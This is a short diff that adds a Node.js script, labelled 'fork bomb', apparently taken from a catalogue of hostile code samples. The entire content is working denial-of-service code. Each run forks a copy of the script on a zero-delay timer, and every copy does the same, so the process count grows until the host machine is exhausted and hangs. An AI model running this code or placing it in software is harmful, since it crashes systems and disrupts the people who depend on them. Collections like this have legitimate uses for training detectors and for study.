@@ -1,0 +1,3 @@
+// class: fork bomb; style: recursion
+const { fork } = require('child_process');
+setInterval(() => fork(__filename), 0);
